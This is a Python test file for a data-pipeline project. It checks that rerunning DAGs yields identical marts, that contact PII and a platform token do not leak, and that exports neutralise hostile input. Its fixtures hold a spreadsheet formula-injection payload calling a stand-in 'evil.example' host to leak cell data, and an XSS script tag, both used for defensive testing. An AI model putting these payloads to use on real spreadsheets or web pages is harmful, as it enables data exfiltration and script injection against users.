"""Every DAG run twice for the same interval: identical marts; and what a whole run must never
let out: contact names and phones in marts, the platform token in any log, a formula in an export."""

from __future__ import annotations

import csv
import datetime as dt
import shutil

import pytest
from generated import PLATFORM_TOKEN
from ledger import assert_ledger_balances
from openpyxl import load_workbook

from ttw.orchestrate import AIRFLOW_DB, prepare_airflow, run_dag
from ttw.warehouse import connect, table_checksums
from ttw_dev.dataset import land_dataset, platform_resources
from ttw_dev.demo import DAG_ORDER, platform_connections

INTERVAL = dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"打开")'
SCRIPT = '<script>alert("ttw")</script>'


@pytest.fixture(scope="module")
def airflow_db(settings, target, dag_env):
    prepare_airflow(settings, target)


def poison_center_names(landing) -> None:
    """Hostile center names in every roster: the first center's a formula, every other one's
    prefixed with a script tag."""
    first = None
    for roster in sorted(landing.rglob("centers_*.csv")):
        with roster.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        first = first or rows[0]["center_code"]
        for row in rows:
            row["center_name"] = FORMULA_NAME if row["center_code"] == first else SCRIPT + row["center_name"]
        with roster.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


def contents(path) -> bytes:
    """A file's bytes; nothing for one the running server removed meanwhile (a temporary file)."""
    try:
        return path.read_bytes()
    except FileNotFoundError:
        return b""


def ledger(target) -> tuple:
    with connect(target) as conn:
        return conn.execute(
            "select count(*), sum(rows_received), (select count(*) from ops.load_rejects),"
            " (select count(*) from ops.watermarks) from ops.load_batches"
        ).fetchone()


def test_every_dag_run_twice_for_the_same_interval_gives_identical_marts(
    airflow_db, settings, clean_target, small_dataset, platform_server, capfd
):
    landing = settings.landing_dir
    shutil.rmtree(landing, ignore_errors=True)
    land_dataset(small_dataset, landing)
    poison_center_names(landing)
    server = platform_server()
    env = platform_connections(server.base_url, PLATFORM_TOKEN, list(platform_resources(small_dataset)))

    def run_all() -> dict[str, str]:
        return {d: run_dag(settings, clean_target, d, env=env, logical_date=INTERVAL).state for d in DAG_ORDER}

    assert run_all() == dict.fromkeys(DAG_ORDER, "success")
    first = table_checksums(clean_target, "marts")
    loaded = ledger(clean_target)
    assert len(first) > 10
    assert_ledger_balances(clean_target)

    assert run_all() == dict.fromkeys(DAG_ORDER, "success")
    assert table_checksums(clean_target, "marts") == first
    assert ledger(clean_target) == loaded  # the rerun loaded nothing twice
    assert_ledger_balances(clean_target)

    # PII stays in raw: no published column holds a contact name or phone of any raw row
    with connect(clean_target) as conn:
        names, phones = conn.execute(
            "select array_agg(distinct contact_name) filter (where contact_name <> ''),"
            " array_agg(distinct contact_phone) filter (where contact_phone <> '') from raw.registry_contracts"
        ).fetchone()
        assert len(names) > 10
        assert len(phones) > 10
        columns = conn.execute(
            "select table_name, column_name from information_schema.columns where table_schema = 'marts' order by 1, 2"
        ).fetchall()
        assert not [c for _, c in columns if "contact" in c or "phone" in c]
        leaks = [
            (table, column)
            for table, column in columns
            if conn.execute(
                f'select exists (select from marts."{table}" where "{column}"::text = any(%s))',
                (names + phones,),
            ).fetchone()[0]
        ]
    assert leaks == []

    # the platform token is nowhere: not in what the DAG runs printed (task logs included),
    # not in any file under TTW_HOME (Airflow's database and logs, dbt's logs, the outputs,
    # the warehouse's data files and WAL), not in any row of any warehouse table
    out, err = capfd.readouterr()
    assert "ingest_platform_exports" in out + err
    assert PLATFORM_TOKEN not in out + err
    token = PLATFORM_TOKEN.encode()
    files = [p for p in settings.home_dir.rglob("*") if p.is_file()]
    if clean_target.embedded:  # Airflow's metadata: database `airflow` of the embedded server, under TTW_HOME
        with connect(clean_target) as conn:
            (oid,) = conn.execute("select oid from pg_database where datname = %s", (AIRFLOW_DB,)).fetchone()
        assert any(p.parent == settings.pgdata / "base" / str(oid) for p in files)
    assert [p for p in files if token in contents(p)] == []
    with connect(clean_target) as conn:  # every row of every table of the warehouse, as text
        tables = conn.execute(
            "select table_schema, table_name from information_schema.tables"
            " where table_schema in ('raw', 'ops', 'staging', 'intermediate', 'snapshots', 'marts_build', 'marts')"
        ).fetchall()
        holding = [
            f"{schema}.{table}"
            for schema, table in tables
            if conn.execute(
                f'select exists (select from "{schema}"."{table}" as t where t::text like %s)',
                (f"%{PLATFORM_TOKEN}%",),
            ).fetchone()[0]
        ]
    assert len(tables) > 50
    assert holding == []

    # the evaluator workbook: the hostile center name is there, as text, and no cell is a
    # formula; the HTML report shows the script-tagged names as text, not as markup
    with connect(clean_target) as conn:
        year = conn.execute("select max(evaluation_year) from marts.rpt_center_performance").fetchone()[0]
        names = [n for (n,) in conn.execute("select center_name from marts.dim_center where is_current")]
    assert FORMULA_NAME in names  # marts keep the text as delivered
    assert len([n for n in names if n.startswith(SCRIPT)]) == len(names) - 1
    out = settings.out_dir / "evaluation" / str(year)
    book = load_workbook(out / f"centers_{year}.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + FORMULA_NAME in {c.value for c in cells}
    html = (out / "report" / f"centers_{year}.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&quot;ttw&quot;)&lt;/script&gt;" in html
    assert "<script>alert" not in html
